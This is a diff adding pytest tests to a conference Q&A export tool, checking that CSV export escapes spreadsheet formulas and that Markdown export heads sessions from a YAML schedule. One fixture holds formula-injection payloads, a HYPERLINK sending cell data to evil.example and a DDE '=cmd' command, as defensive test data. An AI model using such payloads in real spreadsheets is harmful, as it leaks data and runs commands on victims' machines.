@@ -223,3 +223,135 @@ def test_the_group_is_reachable_as_chairbot_qa(event_db: Path) -> None:
 
     assert result.returncode == 0, result.stderr
     assert "Session talk-1" in result.stdout
+
+
+# --- CSV that a spreadsheet opens safely ------------------------------------------------------------------------
+
+FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'
+
+
+@pytest.fixture
+async def formula_db(tmp_path: Path, clock: FakeClock) -> Path:
+    """A database where attendees typed spreadsheet formulas as questions and as their names."""
+    path = tmp_path / "formulas.db"
+    async with QAService(path, clock=clock) as qa:
+        await qa.ask("talk-1", "u1", FORMULA_QUESTION, author_name="@SUM(1+1)")
+        await qa.ask("talk-1", "u2", "-1 is wrong? Why not +1?", author_name="Bo")
+        await qa.ask("talk-1", "u3", "Fine; =cmd|' /C calc'!A0", author_name="＝1+1")
+    return path
+
+
+def test_chairbot_qa_export_csv_shows_formulas_as_text(formula_db: Path) -> None:
+    result = CliRunner().invoke(cli, ["qa", "export", "--db", str(formula_db), "--format", "csv"])
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert [(r["text"], r["asker"]) for r in rows] == [
+        ("'" + FORMULA_QUESTION, "'@SUM(1+1)"),
+        ("'-1 is wrong? Why not +1?", "Bo"),
+        ("Fine;' =cmd|' /C calc'!A0", "'＝1+1"),
+    ]
+    lines = result.stdout.splitlines()[1:]
+    # The cells of a comma reading, then those a spreadsheet with a ";" list separator would start.
+    cells = [cell for row in csv.reader(lines) for cell in row] + [p for line in lines for p in line.split(";")[1:]]
+    for cell in cells:
+        assert cell.lstrip(' "')[:1] not in ("=", "+", "-", "@", "＝", "\t", "\r"), cell
+
+
+# --- Markdown headed from the schedule --------------------------------------------------------------------------
+
+SCHEDULE_YAML = """\
+event: {name: Test Workshop, timezone: Europe/Vienna, date: 2024-05-11}
+sessions:
+  - {id: talk-2, title: "Invited Talk 2", kind: talk, start: "09:00", end: "09:30",
+     speakers: [{name: Andrew Wilson, affiliation: New York University}]}
+  - {id: talk-1, title: "The *Scaling* Talk", kind: talk, start: "14:00", end: "14:30"}
+"""
+
+
+@pytest.fixture
+def schedule_file(tmp_path: Path) -> Path:
+    path = tmp_path / "day.yaml"
+    path.write_text(SCHEDULE_YAML, encoding="utf-8")
+    return path
+
+
+def test_export_markdown_with_the_schedule_heads_sessions_by_title_speakers_and_time_in_start_order(
+    run_qa: Callable[..., Result], event_db: Path, schedule_file: Path
+) -> None:
+    result = run_qa("export", "--db", event_db, "--format", "md", "--schedule", schedule_file)
+
+    assert result.exit_code == 0, result.output
+    lines = result.stdout.splitlines()
+    assert [line for line in lines if line.startswith("## ")] == [
+        "## Invited Talk 2 — Andrew Wilson (New York University)",
+        "## The \\*Scaling\\* Talk",
+    ]
+    first = lines.index("## Invited Talk 2 — Andrew Wilson (New York University)")
+    assert lines[first + 2 : first + 5] == [
+        "Saturday 11 May 2024, 09:00–09:30 Europe/Vienna",
+        "",
+        "1. Any benchmarks?  ",
+    ]
+    assert "Saturday 11 May 2024, 14:00–14:30 Europe/Vienna" in lines
+    assert result.stderr == ""
+
+
+def test_export_markdown_keeps_an_id_heading_for_a_session_missing_from_the_schedule(
+    run_qa: Callable[..., Result], event_db: Path, tmp_path: Path
+) -> None:
+    only_talk_2 = tmp_path / "only-talk-2.yaml"
+    only_talk_2.write_text(SCHEDULE_YAML.split("  - {id: talk-1")[0], encoding="utf-8")
+
+    result = run_qa("export", "--db", event_db, "--format", "md", "--schedule", only_talk_2)
+
+    assert result.exit_code == 0, result.output
+    assert "## Session talk-1\n\nNot in the schedule.\n" in result.stdout
+    assert result.stdout.index("## Invited Talk 2") < result.stdout.index("## Session talk-1")
+
+
+def test_export_markdown_without_the_schedule_says_that_sessions_are_headed_by_id(
+    run_qa: Callable[..., Result], event_db: Path
+) -> None:
+    result = run_qa("export", "--db", event_db, "--format", "md")
+
+    assert result.exit_code == 0, result.output
+    assert "## Session talk-1" in result.stdout
+    assert "no --schedule given" in result.stderr
+    assert "headed by their ids" in result.stderr
+
+
+def test_export_says_the_schedule_is_ignored_for_csv(
+    run_qa: Callable[..., Result], event_db: Path, schedule_file: Path
+) -> None:
+    result = run_qa("export", "--db", event_db, "--format", "csv", "--schedule", schedule_file)
+
+    assert result.exit_code == 0, result.output
+    assert len(list(csv.DictReader(io.StringIO(result.stdout)))) == 3
+    assert "--schedule only applies to --format md" in result.stderr
+
+
+def test_an_invalid_schedule_exits_1_naming_the_file_and_its_problem(
+    run_qa: Callable[..., Result], event_db: Path, tmp_path: Path
+) -> None:
+    broken = tmp_path / "broken.yaml"
+    broken.write_text(SCHEDULE_YAML.replace('end: "09:30"', 'end: "08:30"'), encoding="utf-8")
+
+    result = run_qa("export", "--db", event_db, "--schedule", broken)
+
+    assert result.exit_code == 1
+    assert f"{broken}:" in result.output
+    assert "end is not after start" in result.output
+    assert "Traceback" not in result.output
+
+
+def test_a_plain_text_schedule_is_a_usage_error_that_points_to_chairbot_import(
+    run_qa: Callable[..., Result], event_db: Path
+) -> None:
+    proposal = REPO_ROOT / "tests" / "schedule" / "fixtures" / "iclr2024_proposal.txt"
+
+    result = run_qa("export", "--db", event_db, "--schedule", proposal)
+
+    assert result.exit_code == 2
+    assert "chairbot import" in result.output
+    assert "Traceback" not in result.output
